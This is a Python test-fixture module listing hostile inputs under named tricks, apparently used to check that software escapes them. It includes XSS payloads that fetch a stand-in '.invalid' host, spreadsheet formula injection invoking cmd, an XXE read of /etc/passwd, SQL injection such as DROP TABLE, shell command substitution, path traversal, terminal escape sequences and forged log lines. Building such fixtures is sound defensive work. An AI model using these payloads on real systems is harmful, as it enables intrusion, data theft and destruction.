"""Texts that were written to do harm wherever they are shown, each under the name of its trick.

`MARK` stands in whatever would run, fetch or forge: a test looks for its traces.
"""

from typing import Final

MARK: Final = "PWNED"

FORGED: Final = f"2017-02-22T00:00:00Z ERROR monitor: {MARK}"
"""A line that would pass for one of our log, if a text could begin a line of its own."""

_RUN: Final = f"window.{MARK}=1;fetch('https://{MARK}.invalid/')"

HOSTILE: Final[dict[str, str]] = {
    "script": f"<script>{_RUN}</script>",
    "end of script": f"</script><script>{_RUN}</script>",
    "comment in script": f"<!--<script>{_RUN}//-->",
    "image": f'<img src="https://{MARK}.invalid/i.png" onerror="{_RUN}">',
    "attribute": f'" onmouseover="{_RUN}" x=\'',
    "style": f"</style><style>@import 'https://{MARK}.invalid/a.css';</style>",
    "frame": f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    "refresh": f'<meta http-equiv="refresh" content="0;url=https://{MARK}.invalid/">',
    "entity": f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "template": f"{{{{constructor.constructor('{_RUN}')()}}}}${{{MARK}}}{{title}}%s%(name)s",
    "expression": f"datum['{MARK}'] signal('{MARK}') [datum.{MARK}]",
    "svg": f"<svg onload=\"{_RUN}\"><use href='https://{MARK}.invalid/u.svg#a'/></svg>",
    "end of cdata": f"]]><a href='javascript:{_RUN}'>x</a><![CDATA[",
    "entity of xml": f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{MARK}</x>",
    "formula": f'=HYPERLINK("https://{MARK}.invalid/"&A1,"x")',
    "formula plus": f"+cmd|' /C calc'!{MARK}",
    "formula minus": f"-2+3+cmd|' /C calc'!{MARK}",
    "formula at": f"@SUM(1+9)*cmd|' /C calc'!{MARK}",
    "formula tab": f"\t=cmd|' /C calc'!{MARK}",
    "formula return": f"\r=cmd|' /C calc'!{MARK}",
    "formula space": f"  =cmd|' /C calc'!{MARK}",
    "formula wide": f"＝cmd|' /C calc'!{MARK}",
    "cells": f'a","=1+1","{MARK}\n"=1+1",b;=1+1;\t=1+1',
    "clear screen": f"\x1b[2J\x1b[H{MARK}",
    "title of terminal": f"\x1b]0;{MARK}\x07",
    "clipboard": f"\x1b]52;c;{MARK}\x07",
    "link of terminal": f"\x1b]8;;https://{MARK}.invalid/\x1b\\click\x1b]8;;\x1b\\",
    "c1": f"\x9b2J\x9d0;{MARK}\x9c\x90q{MARK}\x9c",
    "backspace": f"safe\x08\x08\x08\x08{MARK}\x7f",
    "bidi": f"\u202egro.elpmaxe//:sptth\u202c \u2066{MARK}\u2069 \u200f\u061c",
    "forged line": f"x\n{FORGED}",
    "forged line return": f"x\r{FORGED}\r\n{FORGED}",
    "forged line other": f"x\u2028{FORGED}\u2029{FORGED}\x85{FORGED}\x0b{FORGED}\x0c{FORGED}",
    "forged json": f'"}}\n{{"level":"ERROR","message":"{MARK}"}}',
    "markdown link": f"[x](javascript:{_RUN}) ![i](https://{MARK}.invalid/i.png)",
    "markdown table": f"a | b |\n|---|---|\n| {MARK} | `x` |\n\n# {MARK}\n\n    code",
    "markdown html": f"<details open ontoggle={_RUN}>\n\n[r]: https://{MARK}.invalid/\n",
    "markdown fence": f"```\n{MARK}\n~~~\n***\n- x\n> y\n1. z",
    "markup of rich": f"[bold red]{MARK}[/] [link=https://{MARK}.invalid/]x[/link] [/]",
    "json": f'\\","{MARK}":"\\u0022\\ud800"}}]}}',
    "sql": f"'; DROP TABLE post; -- {MARK}",
    "sql union": f"1' OR '1'='1' UNION SELECT value FROM setting -- {MARK}",
    "sql wildcard": f"%_\\%*?[a-z]{MARK}",
    "fts": f'NEAR("{MARK}" AND * OR (text: "" ^a -b',
    "shell": f"$(touch {MARK}) `touch {MARK}`; touch {MARK} | tee {MARK} & %PATH% $HOME",
    "path": f"../../../../tmp/{MARK}/../..\\..\\{MARK}",
    "path absolute": f"/etc/cron.d/{MARK}\x00.csv",
    "device": "CON.txt:$DATA/dev/stdin",
    "format": f"%n%n%s%x {{0.__class__.__init__.__globals__}} {MARK}",
    "huge": f"{MARK} " * 8_000,
    "one word": "A" * 30_000,
    "zero width": f"P\u200bW\u200bN\u200bE\u200bD\u2060\ufeff{MARK}",
    "combining": "Z" + "\u0335\u0321\u034f" * 300 + MARK,
    "surrogate": f"\ud800{MARK}\udfff",
    "right to left": f"{MARK} نص عربي עברית {MARK}",
    "emoji": f"👨\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 👍🏽 🇺🇸 {MARK}",
    "noncharacters": f"\ufffe\uffff\U0001fffe\U0010ffff{MARK}",
    "null": f"\x00{MARK}\x00",
    "tags": f"\U000e0001\U000e0050\U000e0057\U000e007f{MARK}",
    "empty": "",
    "blank": " \t\n\u3000\u00a0",
}

SHORT: Final = {name: text for name, text in HOSTILE.items() if 0 < len(text) <= 200}
"""Those that fit where titles stand."""
